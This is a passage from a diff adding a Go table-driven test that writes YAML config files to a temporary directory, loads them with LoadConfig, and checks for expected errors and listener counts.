+		t.Run(tt.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "config.yaml")
+			if err := os.WriteFile(path, []byte(tt.content), 0644); err != nil {
+				t.Fatalf("write config: %v", err)
+			}
+			cfg, err := LoadConfig(path)
+			if tt.shouldError {
+				if err == nil {
+					t.Error("expected error, got nil")
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("unexpected error: %v", err)
+			}
+			if got := len(cfg.Server.ListenerConfigs()); got != tt.listeners {
+				t.Errorf("got %d listeners, want %d", got, tt.listeners)
+			}
+		})
+	}
+}